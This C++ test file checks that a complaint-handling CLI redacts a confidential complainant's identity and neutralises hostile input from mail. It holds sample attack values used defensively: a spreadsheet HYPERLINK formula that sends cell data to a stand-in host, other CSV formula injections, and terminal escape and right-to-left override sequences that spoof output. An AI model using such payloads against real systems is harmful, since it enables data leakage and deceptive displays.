// A confidential case (密件) whose complainant wrote name, phone, address and e-mail into the
// subject and text: no view or export of complaintctl shows them, unless --reveal (audited).
// And text from mail never reaches the terminal with its control characters.
#include <Poco/JSON/Array.h>
#include <Poco/JSON/Object.h>
#include <Poco/JSON/Parser.h>
#include <gtest/gtest.h>

#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "center/store.h"
#include "ctl/complaintctl.h"
#include "daemon/service.h"
#include "parsers/mime_parser.h"
#include "test_clock.h"
#include "test_mail.h"
#include "test_staff.h"

namespace complaintd::ctl {
namespace {

namespace fs = std::filesystem;

const std::vector<std::string> kIdentity{"王小明",           "王先生",      "0912-345-678", "0912345678",
                                         "wang@example.org", "紫楝路100號", "06-5050123"};

class ConfidentialViewsTest : public ::testing::Test {
protected:
    void SetUp() override {
        dir_ =
            fs::temp_directory_path() / ("complaintctl-confidential-" + std::to_string(::getpid()) + "-" +
                                         std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()));
        fs::remove_all(dir_);
        fs::create_directories(dir_ / "drop");
        std::ofstream(dir_ / "drop" / "1.eml", std::ios::binary)
            << testing::utf8Mail("c1@example.org", "王小明（0912-345-678）檢舉紫楝路路燈不亮，請保密",
                                 "王先生住紫楝路，路燈不亮很久了，回電 06-5050123 或來信 wang@example.org。\n\n"
                                 "聯絡人：王小明\n手機：0912345678\n地址：台南市新市區紫楝路100號\n",
                                 "=?UTF-8?B?" + testing::base64("王小明") + "?= <wang@example.org>");
        cycle(daemon::utc(2026, 11, 30, 1));
        for (const auto& person : testing::testStaff())
            ASSERT_EQ(run(testing::staffAddArguments(person)), kExitOk) << err_.str();
    }
    void TearDown() override {
        if (!HasFailure()) fs::remove_all(dir_);
    }

    void cycle(cases::Timestamp at) {
        daemon::FixedClock clock(at);
        std::atomic<bool> stopping{false};
        daemon::Service(center::loadSettings(std::nullopt, {"state_dir=" + dir_.string()}).settings, clock)
            .runCycle(stopping);
    }

    int run(std::vector<std::string> args) {
        out_.str("");
        err_.str("");
        args.insert(args.begin(), {"-o", "state_dir=" + dir_.string()});
        return runComplaintctl(args, out_, err_);
    }

    // Runs a command and expects none of the complainant's identity in what it printed.
    void expectRedacted(const std::vector<std::string>& args) {
        ASSERT_EQ(run(args), kExitOk) << err_.str();
        for (const auto& value : kIdentity)
            EXPECT_EQ(out_.str().find(value), std::string::npos) << args[0] << " shows " << value << ":\n"
                                                                 << out_.str();
    }

    center::Store store() { return center::Store(dir_.string() + "/complaintd.sqlite"); }
    // The draft as the approver read it, for approve --draft.
    std::string draftOf(const std::string& number) {
        return store().findCase(*cases::CaseNumber::parse(number))->replyRevision;
    }

    fs::path dir_;
    std::ostringstream out_;
    std::ostringstream err_;
};

TEST_F(ConfidentialViewsTest, TheCaseIsConfidentialAndKnowsItsComplainant) {
    const auto record = store().findCase(*cases::CaseNumber::parse("115-001"));
    ASSERT_TRUE(record);
    EXPECT_TRUE(record->fields.confidential);
    EXPECT_EQ(record->fields.complainant.name, "王小明");
}

TEST_F(ConfidentialViewsTest, ListShowDueAndHistoryShowNoneOfTheIdentity) {
    expectRedacted({"list"});
    EXPECT_NE(out_.str().find("〔已遮蔽〕"), std::string::npos) << out_.str();
    EXPECT_NE(out_.str().find("檢舉紫楝路路燈不亮"), std::string::npos) << out_.str();
    expectRedacted({"list", "--json"});
    expectRedacted({"show", "115-001"});
    EXPECT_NE(out_.str().find("密件"), std::string::npos);
    expectRedacted({"show", "115-001", "--json"});
    const auto json = Poco::JSON::Parser().parse(out_.str()).extract<Poco::JSON::Object::Ptr>();
    EXPECT_EQ(json->getObject("complainant")->getValue<std::string>("name"), "（密件）");
    expectRedacted({"due", "--within", "100000"});
    EXPECT_NE(out_.str().find("115-001"), std::string::npos) << out_.str();
    expectRedacted({"history", "115-001"});
}

TEST_F(ConfidentialViewsTest, RegisterReviewFormAndAnnualReportShowNoneOfTheIdentity) {
    expectRedacted({"register", "--year", "2026"});
    EXPECT_NE(out_.str().find("115-001"), std::string::npos) << out_.str();
    expectRedacted({"register", "--year", "2026", "--format", "csv"});
    expectRedacted({"register", "--year", "2026", "--format", "json"});
    expectRedacted({"review", "115-001", "--format", "text"});
    EXPECT_NE(out_.str().find("檢舉紫楝路路燈不亮"), std::string::npos) << out_.str();
    expectRedacted({"report", "annual", "--year", "2026", "--format", "json"});
    expectRedacted({"report", "annual", "--year", "2026", "--format", "csv"});
}

TEST_F(ConfidentialViewsTest, OutboxListShowsNoneOfTheIdentity) {
    expectRedacted({"outbox", "list"});
    expectRedacted({"outbox", "list", "--json"});
    EXPECT_NE(out_.str().find("acknowledgement"), std::string::npos) << out_.str();
}

TEST_F(ConfidentialViewsTest, RevealShowsTheCaseAsStoredAndIsAudited) {
    ASSERT_EQ(run({"show", "115-001", "--json", "--reveal", "--by", "director"}), kExitOk) << err_.str();
    const auto json = Poco::JSON::Parser().parse(out_.str()).extract<Poco::JSON::Object::Ptr>();
    EXPECT_EQ(json->getValue<std::string>("subject"), "王小明（0912-345-678）檢舉紫楝路路燈不亮，請保密");
    EXPECT_NE(json->getValue<std::string>("summary").find("06-5050123"), std::string::npos);
    ASSERT_EQ(run({"list", "--reveal", "--by", "desk", "--reason", "電話回覆"}), kExitOk) << err_.str();
    EXPECT_NE(out_.str().find("王小明"), std::string::npos) << out_.str();
    ASSERT_EQ(run({"history", "115-001"}), kExitOk) << err_.str();
    EXPECT_NE(out_.str().find("director    revealed: show --reveal"), std::string::npos) << out_.str();
    EXPECT_NE(out_.str().find("desk        revealed: 電話回覆"), std::string::npos) << out_.str();
}

TEST_F(ConfidentialViewsTest, TheUnitReminderShowsNoneOfTheIdentity) {
    cycle(daemon::utc(2026, 12, 6, 1));  // a day before the handling target: the unit is reminded
    std::optional<center::OutboxItem> reminder;
    for (const auto& item : store().outbox())
        if (item.kind == cases::LetterKind::Reminder) reminder = item;
    ASSERT_TRUE(reminder);
    const auto parsed = parsers::parseMessage(reminder->raw);
    ASSERT_TRUE(std::holds_alternative<parsers::ParsedMessage>(parsed));
    const auto& mail = std::get<parsers::ParsedMessage>(parsed);
    for (const auto& text : {mail.subject, mail.textBody, reminder->subject})
        for (const auto& value : kIdentity) EXPECT_EQ(text.find(value), std::string::npos) << value << " in " << text;
    EXPECT_NE(mail.subject.find("檢舉紫楝路路燈不亮"), std::string::npos) << mail.subject;
}

TEST_F(ConfidentialViewsTest, TheDissatisfiedLetterToTheUnitShowsNoneOfTheIdentity) {
    ASSERT_EQ(run({"reply", "115-001", "--text", "王先生您好：路燈已修復。"}), kExitOk) << err_.str();
    ASSERT_EQ(run({"approve", "115-001", "--role", "supervisor", "--draft", draftOf("115-001"), "--by", "chen"}),
              kExitOk)
        << err_.str();
    ASSERT_EQ(run({"approve", "115-001", "--role", "approver", "--draft", draftOf("115-001"), "--by", "huang"}),
              kExitOk)
        << err_.str();
    ASSERT_EQ(run({"replied", "115-001", "--via", "phone"}), kExitOk) << err_.str();
    ASSERT_EQ(run({"survey", "115-001", "--set", "6=不滿意", "--via", "phone"}), kExitOk) << err_.str();
    std::optional<center::OutboxItem> letter;
    for (const auto& item : store().outbox())
        if (item.kind == cases::LetterKind::Dissatisfied) letter = item;
    ASSERT_TRUE(letter);
    const auto parsed = parsers::parseMessage(letter->raw);
    ASSERT_TRUE(std::holds_alternative<parsers::ParsedMessage>(parsed));
    const auto& mail = std::get<parsers::ParsedMessage>(parsed);
    for (const auto& text : {mail.subject, mail.textBody, letter->subject})
        for (const auto& value : kIdentity) EXPECT_EQ(text.find(value), std::string::npos) << value << " in " << text;
    EXPECT_NE(mail.subject.find("檢舉紫楝路路燈不亮"), std::string::npos) << mail.subject;
    expectRedacted({"show", "115-001"});  // the reply names him too
}

TEST_F(ConfidentialViewsTest, TheSurveysFreeTextShowsNoneOfTheIdentityUnlessRevealed) {
    ASSERT_EQ(run({"reply", "115-001", "--text", "路燈已修復。"}), kExitOk) << err_.str();
    ASSERT_EQ(run({"approve", "115-001", "--role", "supervisor", "--draft", draftOf("115-001"), "--by", "chen"}),
              kExitOk)
        << err_.str();
    ASSERT_EQ(run({"approve", "115-001", "--role", "approver", "--draft", draftOf("115-001"), "--by", "huang"}),
              kExitOk)
        << err_.str();
    ASSERT_EQ(run({"replied", "115-001", "--via", "phone"}), kExitOk) << err_.str();
    ASSERT_EQ(run({"survey", "115-001", "--set", "suggestions=請打0912-345-678找王小明", "--via", "phone"}), kExitOk)
        << err_.str();
    expectRedacted({"survey", "115-001"});
    ASSERT_EQ(run({"survey", "115-001", "--reveal", "--by", "director"}), kExitOk) << err_.str();
    EXPECT_NE(out_.str().find("0912-345-678"), std::string::npos) << out_.str();
}

TEST_F(ConfidentialViewsTest, QuarantineShowOfAConfidentialMessageNeedsRevealAndIsAudited) {
    EXPECT_EQ(run({"quarantine", "show", "1"}), kExitInvalid);  // not quarantined: read through its case
    store().quarantine(1, "test: read again by hand");
    EXPECT_EQ(run({"quarantine", "show", "1"}), kExitInvalid);
    EXPECT_NE(err_.str().find("confidential case 115-001: add --reveal"), std::string::npos) << err_.str();
    ASSERT_EQ(run({"quarantine", "show", "1", "--reveal", "--by", "lin"}), kExitOk) << err_.str();
    EXPECT_NE(out_.str().find("Message-ID: <c1@example.org>"), std::string::npos) << out_.str();
    ASSERT_EQ(run({"history", "115-001"}), kExitOk) << err_.str();
    EXPECT_NE(out_.str().find("lin         revealed: quarantine show 1 --reveal"), std::string::npos) << out_.str();
}

TEST_F(ConfidentialViewsTest, AConfidentialFaxHidesItsNumberOcrTextAndReplyRoute) {
    const auto at = daemon::utc(2026, 11, 30, 3);
    center::CaseDraft draft;
    auto& c = draft.fields;
    c.channel = cases::Channel::Fax;
    c.receivedAt = at;
    c.complainant.fax = "06-5550123";
    c.subject = "傳真陳情";
    c.summary = "（傳真內容辨識中）";
    c.unit = "intake";
    draft.replyRoute = cases::ReplyRoute::byFax("065550123@fax.example");
    draft.ocrPending = true;
    auto s = store();
    const auto number = s.openCase(
        draft, [](const cases::CaseNumber&) { return std::nullopt; }, at);
    center::OcrOutcome ocr;
    ocr.updated = c;
    ocr.updated.number = number;
    ocr.updated.complainant.name = "陳大文";
    ocr.updated.confidential = true;  // the pages asked for it
    ocr.updated.summary = "陳大文反映路燈不亮，請保密，電話 06-5550123。";
    ocr.text = "陳情人：陳大文\n傳真 06-5550123\n路燈不亮，請保密。";
    ocr.note = "1 pages read";
    s.completeOcr(number, ocr, center::OcrApplied::NothingToRoute, at);
    ASSERT_EQ(run({"show", number.toString(), "--json"}), kExitOk) << err_.str();
    for (const std::string value : {"陳大文", "5550123"})
        EXPECT_EQ(out_.str().find(value), std::string::npos) << value << " in " << out_.str();
    const auto json = Poco::JSON::Parser().parse(out_.str()).extract<Poco::JSON::Object::Ptr>();
    EXPECT_EQ(json->getValue<std::string>("reply_route"), "fax: 〔已遮蔽〕");
    EXPECT_EQ(json->getValue<std::string>("ocr_text"), "陳情人：〔已遮蔽〕\n傳真 〔已遮蔽〕\n路燈不亮，請保密。");
    ASSERT_EQ(run({"show", number.toString()}), kExitOk) << err_.str();
    EXPECT_EQ(out_.str().find("5550123"), std::string::npos) << out_.str();
    EXPECT_NE(out_.str().find("Reply by:     fax: 〔已遮蔽〕"), std::string::npos) << out_.str();
}

TEST_F(ConfidentialViewsTest, RegisterCsvNeutralisesFormulas) {
    std::ofstream(dir_ / "drop" / "2.eml", std::ios::binary)
        << testing::utf8Mail("c2@example.org", "=HYPERLINK(\"https://x.example/?\"&B3,\"詳見\")", "路燈不亮。");
    std::ofstream(dir_ / "drop" / "3.eml", std::ios::binary)
        << testing::utf8Mail("c3@example.org", "@SUM(1+1)", "路燈不亮。", "\"-2+3\" <minus@example.org>");
    cycle(daemon::utc(2026, 11, 30, 2));
    ASSERT_EQ(run({"register", "--year", "2026", "--format", "csv"}), kExitOk) << err_.str();
    const auto csv = out_.str();
    EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"https://x.example/?\"\"&B3,\"\"詳見\"\")\","), std::string::npos) << csv;
    EXPECT_NE(csv.find(",\"'-2+3\",\"'@SUM(1+1)\","), std::string::npos) << csv;
    for (const std::string formula : {",=", ",+", ",-", ",@", ",\"="}) EXPECT_EQ(csv.find(formula), std::string::npos);
    ASSERT_EQ(run({"register", "--year", "2026", "--format", "json"}), kExitOk) << err_.str();
    EXPECT_NE(out_.str().find("\"@SUM(1+1)\""), std::string::npos) << out_.str();  // JSON carries the value
}

TEST_F(ConfidentialViewsTest, ControlCharactersFromMailNeverReachTheTerminal) {
    const std::string subject =
        "路燈\x1b[2J\x1b]0;pwned\x07不亮\r假的一行\xc2\x9b"
        "31m\xe2\x80\xae"
        "gpj.exe";
    std::ofstream(dir_ / "drop" / "2.eml", std::ios::binary)
        << testing::utf8Mail("c2@example.org", subject, "內文\x1b[8m隱藏\n第二行\tTAB");
    cycle(daemon::utc(2026, 11, 30, 2));
    for (const std::vector<std::string> args : {std::vector<std::string>{"list"},
                                                {"show", "115-002"},
                                                {"due", "--within", "100000"},
                                                {"register", "--year", "2026"}}) {
        ASSERT_EQ(run(args), kExitOk) << err_.str();
        const auto out = out_.str();
        for (const std::string raw : {"\x1b", "\x07", "\r", "\xc2\x9b", "\xe2\x80\xae"})
            EXPECT_EQ(out.find(raw), std::string::npos) << args[0] << ": " << out;
        EXPECT_NE(out.find("路燈^[[2J^[]0;pwned^G不亮^M假的一行\xEF\xBF\xBD"
                           "31m\xEF\xBF\xBDgpj.exe"),
                  std::string::npos)
            << args[0] << ": " << out;
    }
    ASSERT_EQ(run({"show", "115-002"}), kExitOk);
    EXPECT_NE(out_.str().find("內文^[[8m隱藏 第二行 TAB"), std::string::npos) << out_.str();
    ASSERT_EQ(run({"show", "115-002", "--json"}), kExitOk);
    EXPECT_EQ(out_.str().find("\x1b"), std::string::npos);
    EXPECT_EQ(out_.str().find("\xc2\x9b"), std::string::npos);
    const auto json = Poco::JSON::Parser().parse(out_.str()).extract<Poco::JSON::Object::Ptr>();
    EXPECT_EQ(json->getValue<std::string>("subject").find("路燈\x1b[2J"), 0u);  // JSON keeps the value, escaped
}

TEST_F(ConfidentialViewsTest, APdfOnStandardOutputIsWrittenUnfiltered) {
    ASSERT_EQ(run({"review", "115-001", "--format", "pdf"}), kExitOk) << err_.str();
    const auto pdf = out_.str();
    EXPECT_EQ(pdf.rfind("%PDF", 0), 0u);
    EXPECT_EQ(pdf.find("\xEF\xBF\xBD"), std::string::npos);  // compressed streams kept as they are
    EXPECT_NE(pdf.find("%%EOF"), std::string::npos);
}

}  // namespace
}  // namespace complaintd::ctl
